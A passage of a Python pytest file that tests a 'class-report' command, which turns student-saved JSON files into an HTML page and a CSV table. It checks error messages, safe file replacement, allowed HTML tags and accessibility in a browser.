        put(folder, f"older {number}.json", saved(row(f"{words[:3990]} {number}", "", f"{words[:3990]} {number}", version="0.1.0"), version="0.1.0"))
    page, table, outcome = report(root, folder)
    assert len(REFUSED) + len(WORDS) >= 120
    assert outcome.err.count(": ") >= len(REFUSED) and outcome.out.startswith(f"{2 * len(WORDS)} files read, {len(REFUSED)} refused.")
    for tag in page.tags:
        if not isinstance(tag, str):
            name, *attributes = tag
            assert name in ALLOWED and {key for key, _ in attributes} <= ALLOWED[name], tag
            values = " ".join(value or "" for key, value in attributes if key not in ("content", "class"))
            assert "javascript" not in values and "evil" not in values and (name != "link" or ("href", "data:,") in attributes)
    assert_neutral(folder, len(table))
    assert len(table) == 2 * len(WORDS)


@pytest.mark.parametrize("cell", ["5", "Clinic", "a - b", "x=1", "one; two", "“yes”", ""])
def test_harmless_cells_are_left_as_they_are(cell):
    assert neutral(cell) == cell


# ------------------------------------------------------------------ the command


def test_a_folder_that_is_missing(root, tmp_path):
    assert refusal(run(root, "class-report", str(tmp_path / "nothing"))) == (
        f"{tmp_path / 'nothing'}: there is no such folder; expected one with the files that students saved"
    )


def test_a_file_instead_of_a_folder(root, tmp_path):
    assert ": is no folder; expected " in refusal(run(root, "class-report", str(put(tmp_path, "a.json", GOOD))))


def test_all_refused_writes_nothing(root, folder):
    put(folder, "a.json", b"")
    put(folder, "b.json", b"[]")
    outcome = run(root, "class-report", str(folder))
    assert outcome.code == 1 and outcome.out == "" and len(outcome.lines) == 3
    assert outcome.lines[0].startswith("a.json: is empty") and outcome.lines[1].startswith("b.json: is a list")
    assert outcome.lines[2].startswith(f"{folder}: no file could be read, 2 refused; expected ")
    assert sorted(path.name for path in folder.iterdir()) == ["a.json", "b.json"]


def test_an_unknown_case(root, folder):
    put(folder, "a.json", saved(row(), case="elsewhere"))
    assert refusal(run(root, "class-report", str(folder), "--case", "tyo")) == "--case tyo: there is no such case; expected one of elsewhere, toy"


def test_out_names_the_page_and_the_table_stands_beside_it(root, six, tmp_path):
    outcome = run(root, "class-report", str(six), "--out", str(tmp_path / "new" / "monday.html"))
    assert outcome.code == 0 and sorted(path.name for path in (tmp_path / "new").iterdir()) == ["monday.csv", "monday.html"]
    assert not (six / "class-report.html").exists()
    # An earlier report may be replaced.
    assert run(root, "class-report", str(six), "--out", str(tmp_path / "new" / "monday.html")).code == 0


@pytest.mark.parametrize("name", ["report.json", "report", "report.csv", "."])
def test_a_page_needs_the_name_of_a_page(root, six, name):
    assert "is no name for a page; expected a file that ends in .html" in refusal(run(root, "class-report", str(six), "--out", str(six / name)))


def test_a_table_that_is_not_ours_is_not_replaced(root, six):
    grades = put(six, "monday.csv", b"name,grade\nMaria,1\n")
    assert "is there and is no class report" in refusal(run(root, "class-report", str(six), "--out", str(six / "monday.html")))
    assert grades.read_bytes() == b"name,grade\nMaria,1\n" and not (six / "monday.html").exists()


def test_interrupted_writing_leaves_the_old_page(root, six, monkeypatch):
    report(root, six)
    before = {path.name: path.read_bytes() for path in six.iterdir()}
    put(six, "more.json", saved(row("Alone", "", "More.")))

    def fail(*_):
        raise OSError(28, "No space left on device", "class-report.html")

    monkeypatch.setattr(os, "replace", fail)
    assert "No space left on device" in refusal(run(root, "class-report", str(six)))
    assert {path.name: path.read_bytes() for path in six.iterdir() if path.name != "more.json"} == before


# ------------------------------------------------------------------ the page in a browser, and the book it belongs to


def test_the_stops_are_those_of_the_book(site, root):
    """What a page offers is what the report expects."""
    checked = 0
    for case in all_cases(Path(__file__).resolve().parents[1]):
        page = site / "cases" / case.slug / "case.html"
        if not page.is_file():
            continue
        text, offered = page.read_text(encoding="utf-8"), []

        class Forms(HTMLParser):
            def handle_starttag(self, tag, attrs):
                about = dict(attrs)
                if tag == "form":
                    self.of_stop = "data-stop" in about
                    if self.of_stop:
                        offered.append((about["data-stop"], tidy(about["data-title"]), []))
                elif tag == "input" and about.get("name") == "choice" and self.of_stop:
                    offered[-1][2].append(tidy(about["value"]))

        Forms().feed(text)
        assert [(stop.id, stop.question, stop.choices) for stop in stops_of(case)] == offered and offered
        checked += 1
    assert checked


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_in_a_browser(browser, root, six, width, scheme):
    put(six, "old.json", saved(row("x" * 300, "low", "y" * 300, version="0.9.0"), version="0.9.0"))
    put(six, "other.json", saved(row("Yes", "low", "Few.", stop="go", question="Go?"), case="elsewhere"))
    put(six, "bad.json", b"")
    report(root, six)
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True)
    asked, said = [], []
    page = context.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    address = (six / "class-report.html").as_uri()
    page.goto(address)
    assert asked == [address] and said == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert look.axe(page) == []
    assert page.title() and page.evaluate("document.documentElement.lang") == "en"
    context.close()
